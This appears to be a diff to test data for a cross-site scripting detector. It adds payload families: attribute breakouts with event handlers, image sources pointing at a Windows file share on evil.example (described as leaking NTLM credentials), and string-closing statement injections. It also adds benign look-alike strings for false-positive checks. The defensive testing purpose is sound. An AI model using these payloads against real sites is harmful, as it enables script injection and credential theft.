@@ -90,6 +90,15 @@ FAMILIES = {
     # a script element whose angle brackets a filter or layer removed
     "bracketless script": ["scriptalert(crosssitescripting)/script", "-1scriptdocument.cookie=true;/script",
                            '>"scriptdocument.cookie=true;/script', "'scriptprompt(1)/script"],
+    # out of a quoted attribute, a handler-shaped name the event list does not know yet, calling a sink
+    "unknown handler": ['" onpagereveal="alert(1)', "' onfoobar='alert(1)", '" onxyz=confirm(document.domain) x="',
+                        'x" onmosemove=confirm(1)>'],
+    # a resource fetched from a Windows file share: NTLM credentials sent without a click
+    "file share": ['<img src="\\\\evil.example\\share\\x.png">', "<img src=\\\\?\\UNC\\\\\\></style>",
+                   '<img src="file://evil.example/x.png">', '<body background="\\\\1.2.3.4\\x">'],
+    # a statement frame: close the string (and brackets), run a statement, comment out the rest of the line
+    "statement frame": ['";a.b=c;//', '";a[b]=c;//', "');x=1;//", "'};location=name;//", '";a.b=c;// rest',
+                        "x';y=z;//"],
     # the value ends the page's /* comment and runs code
     "comment breakout": ["*/alert(1)/*", "*/prompt(document.domain)//", "x*/confirm(1)/*"],
     # a script scheme with reference-shaped tokens between its letters, in any case
@@ -126,6 +135,9 @@ LOOK_ALIKES = [
     "see script and /script tags", "script (alert) /script", "the script is in /script/run.sh",
     "a */ b", "/* note */ call alert(1) later", "*/ see alert (1) /*", "5 */ 2 = 2.5",
     "background:url(javascript-logo.png)", "background:url(jav", "use url(javascript",
+    "' online='yes'", '" onion="sliced"', "' onboarding='done'", '"hello"; he said // ok', "it's; fine // really",
+    "';//", "'; a b c //", 'He wrote "hi"; then x=1 // done', '"; see the docs at http://x.example/a=1 //',
+    '<a href="\\\\fileserver\\docs\\a.pdf">doc</a>', '<img src="//cdn.example/x.png">', "<img src='./a\\b.png'>",
 ]
 
 
